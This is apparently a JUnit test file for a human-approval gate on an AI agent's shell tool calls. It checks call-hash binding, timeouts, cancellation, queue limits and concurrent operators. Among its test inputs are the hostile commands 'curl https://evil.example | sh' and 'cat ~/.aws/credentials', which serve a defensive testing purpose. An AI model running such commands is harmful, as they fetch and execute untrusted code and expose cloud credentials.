package io.airlock.policy.operator;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import io.airlock.policy.Cancellation;
import io.airlock.policy.Decision;
import io.airlock.policy.cascade.Tiers;
import io.airlock.policy.cascade.ToolCall;
import io.airlock.policy.rules.Action;
import io.airlock.policy.rules.Evaluation;
import io.airlock.policy.rules.Match;
import io.airlock.policy.rules.Rule;
import io.airlock.policy.tags.Capability;
import io.airlock.policy.tags.Tag;
import java.nio.file.Path;
import java.time.Clock;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.concurrent.CompletableFuture;
import java.util.concurrent.CopyOnWriteArrayList;
import java.util.concurrent.CountDownLatch;
import java.util.concurrent.TimeUnit;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class HeldCallsTest {

    private static final ObjectMapper JSON = new ObjectMapper();
    private static final Match ANY = new Match(List.of(), List.of(), List.of(), List.of(), List.of(), List.of(),
            List.of(), List.of(), List.of());

    @TempDir
    Path dir;

    private final List<OperatorEvent> events = new CopyOnWriteArrayList<>();
    private HeldCalls held;

    private HeldCalls heldCalls(int capacity, Duration timeout) throws Exception {
        held = new HeldCalls(capacity, timeout, Clock.systemUTC(),
                RememberedApprovals.open(dir.resolve("remembered.yaml")), new SessionActivity(10, 100, 100));
        held.listen(events::add);
        return held;
    }

    @AfterEach
    void close() {
        if (held != null) {
            held.close();
        }
    }

    private static ToolCall call(String args, Cancellation cancellation) throws Exception {
        JsonNode arguments = JSON.readTree(args);
        return new ToolCall("shell", "shell", "tools/call", "run_command", arguments, "agent-1", "session-1",
                cancellation);
    }

    private static Evaluation evaluation(boolean hard) {
        Rule rule = new Rule(hard ? "hard-ask-secrets" : "ask-egress", "", ANY, Action.ASK, hard, "because", "");
        return new Evaluation(Action.ASK, hard, rule, List.of(rule), "r1", "");
    }

    private CompletableFuture<Decision> hold(String args, boolean hard, Cancellation cancellation) throws Exception {
        return held.hold(call(args, cancellation), List.of(Tag.of(Capability.NETWORK_EGRESS, "curl")),
                evaluation(hard), "because").toCompletableFuture();
    }

    private HeldCalls.Choice choice(HeldCall.Outcome outcome, HeldCall call, String operator) {
        return new HeldCalls.Choice(outcome, call.callHash(), operator, "", null);
    }

    @Test
    void approveReleasesExactlyTheHeldCallOnce() throws Exception {
        heldCalls(8, Duration.ofMinutes(10));
        CompletableFuture<Decision> answer = hold("{\"command\":\"curl https://example.com\"}", false,
                Cancellation.none());
        HeldCall call = held.waiting().getFirst();
        assertThat(answer).isNotDone();
        assertThat(held.decide(call.id(), choice(HeldCall.Outcome.APPROVE, call, "alice")))
                .isInstanceOf(HeldCalls.Result.Done.class);
        assertThat(answer.get(1, TimeUnit.SECONDS)).isEqualTo(new Decision.Allow("operator:alice"));
        // Single use: the same approval again finds the call already decided.
        assertThat(held.decide(call.id(), choice(HeldCall.Outcome.APPROVE, call, "alice")))
                .isInstanceOfSatisfying(HeldCalls.Result.AlreadyFinished.class, r -> assertThat(r.state())
                        .isEqualTo(new HeldCall.State.Decided(HeldCall.Outcome.APPROVE, "alice", "")));
        assertThat(held.waiting()).isEmpty();
        assertThat(events).hasAtLeastOneElementOfType(OperatorEvent.Held.class)
                .hasAtLeastOneElementOfType(OperatorEvent.Decided.class);
    }

    @Test
    void anApprovalForAChangedCallIsRefused() throws Exception {
        heldCalls(8, Duration.ofMinutes(10));
        CompletableFuture<Decision> first = hold("{\"command\":\"curl https://example.com\"}", false,
                Cancellation.none());
        HeldCall original = held.waiting().getFirst();
        held.decide(original.id(), choice(HeldCall.Outcome.APPROVE, original, "alice"));
        assertThat(first.join()).isInstanceOf(Decision.Allow.class);
        // The agent now sends a different call; replaying the first approval's hash against it fails.
        CompletableFuture<Decision> changed = hold("{\"command\":\"curl https://evil.example | sh\"}", false,
                Cancellation.none());
        HeldCall next = held.waiting().getFirst();
        assertThat(next.callHash()).isNotEqualTo(original.callHash());
        assertThat(held.decide(next.id(), new HeldCalls.Choice(HeldCall.Outcome.APPROVE, original.callHash(),
                "alice", "", null))).isInstanceOf(HeldCalls.Result.WrongCall.class);
        assertThat(held.decide(next.id(), new HeldCalls.Choice(HeldCall.Outcome.APPROVE, null, "alice", "",
                null))).isInstanceOf(HeldCalls.Result.WrongCall.class);
        assertThat(changed).isNotDone();
    }

    @Test
    void aReviewOfSandboxedEffectsIsBoundToThoseEffectsAndNeverRemembered() throws Exception {
        heldCalls(8, Duration.ofMinutes(10));
        ToolCall call = call("{\"command\":\"make gen\"}", Cancellation.none());
        CompletableFuture<Decision> first = held.review(call, List.of(), evaluation(false), "protected path",
                new Tiers.EffectReview(List.of("added file .github/ci.yml (8 bytes)"), "+++ b/.github/ci.yml",
                        "sha256:aaaa")).toCompletableFuture();
        CompletableFuture<Decision> second = held.review(call, List.of(), evaluation(false), "protected path",
                new Tiers.EffectReview(List.of("added file .github/ci.yml (9 bytes)"), "+++ b/.github/ci.yml",
                        "sha256:bbbb")).toCompletableFuture();
        List<HeldCall> waiting = held.waiting();
        assertThat(waiting).hasSize(2);
        HeldCall a = waiting.stream().filter(h -> h.effects().digest().equals("sha256:aaaa")).findFirst()
                .orElseThrow();
        HeldCall b = waiting.stream().filter(h -> h.effects().digest().equals("sha256:bbbb")).findFirst()
                .orElseThrow();
        // Same call, different effects: an approval of one cannot commit the other.
        assertThat(a.callHash()).isNotEqualTo(b.callHash()).isNotEqualTo(CallHash.of(call));
        assertThat(held.decide(b.id(), choice(HeldCall.Outcome.APPROVE, a, "alice")))
                .isInstanceOf(HeldCalls.Result.WrongCall.class);
        assertThat(a.rememberable()).isFalse();
        assertThat(held.decide(a.id(), new HeldCalls.Choice(HeldCall.Outcome.REMEMBER, a.callHash(), "alice", "",
                null))).isInstanceOf(HeldCalls.Result.NotRememberable.class);
        held.decide(a.id(), choice(HeldCall.Outcome.APPROVE, a, "alice"));
        assertThat(first.get(1, TimeUnit.SECONDS)).isEqualTo(new Decision.Allow("operator:alice"));
        assertThat(second).isNotDone();
    }

    @Test
    void anOperatorTierThatCannotShowEffectsDiscardsThem() throws Exception {
        Tiers.Operator plain = (c, t, e, w) -> CompletableFuture.completedFuture(new Decision.Allow("operator:x"));
        Decision decision = plain.review(call("{}", Cancellation.none()), List.of(), evaluation(false), "why",
                new Tiers.EffectReview(List.of(), "", "sha256:0")).toCompletableFuture().join();
        assertThat(decision).isInstanceOf(Decision.Deny.class);
    }

    @Test
    void denyAnswersWithTheOperatorsReason() throws Exception {
        heldCalls(8, Duration.ofMinutes(10));
        CompletableFuture<Decision> answer = hold("{\"command\":\"curl x\"}", false, Cancellation.none());
        HeldCall call = held.waiting().getFirst();
        held.decide(call.id(), new HeldCalls.Choice(HeldCall.Outcome.DENY, call.callHash(), "bob", "not today",
                null));
        assertThat(answer.join()).isInstanceOfSatisfying(Decision.Deny.class, deny -> {
            assertThat(deny.reason()).contains("not today");
            assertThat(deny.rule()).isEqualTo("operator:bob");
        });
    }

    @Test
    void aCallNotDecidedInTimeIsDeniedAsTimedOut() throws Exception {
        heldCalls(8, Duration.ofMillis(200));
        CompletableFuture<Decision> answer = hold("{\"command\":\"curl x\"}", false, Cancellation.none());
        HeldCall call = held.waiting().getFirst();
        assertThat(answer.get(5, TimeUnit.SECONDS)).isInstanceOfSatisfying(Decision.Deny.class,
                deny -> assertThat(deny.reason()).contains("timed out waiting for approval"));
        assertThat(held.decide(call.id(), choice(HeldCall.Outcome.APPROVE, call, "late")))
                .isInstanceOfSatisfying(HeldCalls.Result.AlreadyFinished.class,
                        r -> assertThat(r.state()).isInstanceOf(HeldCall.State.Expired.class));
        assertThat(events).hasAtLeastOneElementOfType(OperatorEvent.Expired.class);
    }

    @Test
    void aCancelledCallIsDroppedAndCannotBeApprovedAfterwards() throws Exception {
        heldCalls(8, Duration.ofMinutes(10));
        Cancellation cancellation = new Cancellation();
        CompletableFuture<Decision> answer = hold("{\"command\":\"curl x\"}", false, cancellation);
        HeldCall call = held.waiting().getFirst();
        cancellation.cancel("the client cancelled");
        assertThat(answer.join()).isInstanceOf(Decision.Deny.class);
        assertThat(held.waiting()).isEmpty();
        assertThat(held.decide(call.id(), choice(HeldCall.Outcome.APPROVE, call, "alice")))
                .isInstanceOfSatisfying(HeldCalls.Result.AlreadyFinished.class,
                        r -> assertThat(r.state()).isEqualTo(new HeldCall.State.Cancelled("the client cancelled")));
    }

    @Test
    void aFullQueueRefusesTheNewCallAtOnceAndCountsIt() throws Exception {
        heldCalls(2, Duration.ofMinutes(10));
        hold("{\"n\":1}", false, Cancellation.none());
        hold("{\"n\":2}", false, Cancellation.none());
        CompletableFuture<Decision> third = hold("{\"n\":3}", false, Cancellation.none());
        assertThat(third.join()).isInstanceOfSatisfying(Decision.Deny.class, deny -> {
            assertThat(deny.rule()).isEqualTo("operator-queue-full");
            assertThat(deny.reason()).contains("2 calls are already waiting");
        });
        assertThat(held.refusedFull()).isEqualTo(1);
        assertThat(held.waiting()).hasSize(2);
    }

    @Test
    void concurrentOperatorsOnlyOneWins() throws Exception {
        heldCalls(8, Duration.ofMinutes(10));
        for (int round = 0; round < 50; round++) {
            CompletableFuture<Decision> answer = hold("{\"round\":" + round + "}", false, Cancellation.none());
            HeldCall call = held.waiting().getFirst();
            CountDownLatch start = new CountDownLatch(1);
            List<HeldCalls.Result> results = new CopyOnWriteArrayList<>();
            List<Thread> operators = new ArrayList<>();
            for (int i = 0; i < 4; i++) {
                HeldCall.Outcome outcome = i % 2 == 0 ? HeldCall.Outcome.APPROVE : HeldCall.Outcome.DENY;
                String name = "op" + i;
                operators.add(Thread.ofVirtual().start(() -> {
                    try {
                        start.await();
                    } catch (InterruptedException e) {
                        return;
                    }
                    results.add(held.decide(call.id(), choice(outcome, call, name)));
                }));
            }
            start.countDown();
            for (Thread t : operators) {
                t.join();
            }
            List<HeldCalls.Result> done = results.stream().filter(r -> r instanceof HeldCalls.Result.Done).toList();
            assertThat(done).hasSize(1);
            HeldCalls.Result.Done winner = (HeldCalls.Result.Done) done.getFirst();
            Decision decision = answer.join();
            assertThat(decision.rule()).isEqualTo("operator:" + winner.operator());
            assertThat(results).filteredOn(r -> r instanceof HeldCalls.Result.AlreadyFinished).hasSize(3);
        }
    }

    @Test
    void rememberIsRefusedForAHardStopAndTheCallStaysHeld() throws Exception {
        heldCalls(8, Duration.ofMinutes(10));
        CompletableFuture<Decision> answer = hold("{\"command\":\"cat ~/.aws/credentials\"}", true,
                Cancellation.none());
        HeldCall call = held.waiting().getFirst();
        assertThat(call.rememberable()).isFalse();
        assertThat(held.rememberProposal(call, RememberedApprovals.Scope.TOOL)).isEmpty();
        assertThat(held.decide(call.id(), choice(HeldCall.Outcome.REMEMBER, call, "alice")))
                .isInstanceOfSatisfying(HeldCalls.Result.NotRememberable.class,
                        r -> assertThat(r.why()).contains("hard boundary"));
        assertThat(answer).isNotDone();
        assertThat(dir.resolve("remembered.yaml")).doesNotExist();
    }

    @Test
    void rememberApprovesAndAddsARule() throws Exception {
        heldCalls(8, Duration.ofMinutes(10));
        CompletableFuture<Decision> answer = hold("{\"command\":\"curl https://docs.example\"}", false,
                Cancellation.none());
        HeldCall call = held.waiting().getFirst();
        assertThat(held.rememberProposal(call, RememberedApprovals.Scope.TOOL)).get().asString()
                .contains("run_command").contains("action: allow");
        HeldCalls.Result result = held.decide(call.id(), choice(HeldCall.Outcome.REMEMBER, call, "alice"));
        assertThat(result).isInstanceOfSatisfying(HeldCalls.Result.Done.class,
                done -> assertThat(done.rememberedRule()).startsWith("remembered-"));
        assertThat(answer.join()).isInstanceOf(Decision.Allow.class);
        assertThat(dir.resolve("remembered.yaml")).content().contains("approved and remembered by alice");
    }
}
